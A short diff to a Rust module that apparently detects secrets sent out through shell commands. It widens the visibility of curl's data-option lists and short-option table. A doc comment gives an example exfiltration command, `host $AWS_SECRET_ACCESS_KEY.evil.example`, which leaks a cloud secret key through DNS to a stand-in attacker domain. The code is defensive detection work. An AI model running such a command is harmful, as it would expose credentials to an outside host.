@@ -324,7 +324,7 @@ fn arguments_secret(command: &Command, short: &[&str], long: &[&str]) -> Option<
 
 /// curl's options whose value it sends as the request's data: the body, a form, the query, and
 /// the user agent and referer, which the server logs.
-const CURL_DATA: &[&str] = &[
+pub(super) const CURL_DATA: &[&str] = &[
     "data",
     "data-binary",
     "data-ascii",
@@ -365,7 +365,7 @@ const CURL_OTHER_VALUES: &[&str] = &[
 const CURL_VALUES: [&str; CURL_DATA.len() + CURL_OTHER_VALUES.len()] = super::joined(CURL_DATA, CURL_OTHER_VALUES);
 
 /// How curl's options take values.
-const CURL_OPTIONS: Options = Options::gnu("dFTHuoXeKrwAbcCEmxyYzQU", &CURL_VALUES);
+pub(super) const CURL_OPTIONS: Options = Options::gnu("dFTHuoXeKrwAbcCEmxyYzQU", &CURL_VALUES);
 
 /// A variable holding a secret by its name in an argument a program sends as text (`host
 /// $AWS_SECRET_ACCESS_KEY.evil.example`).
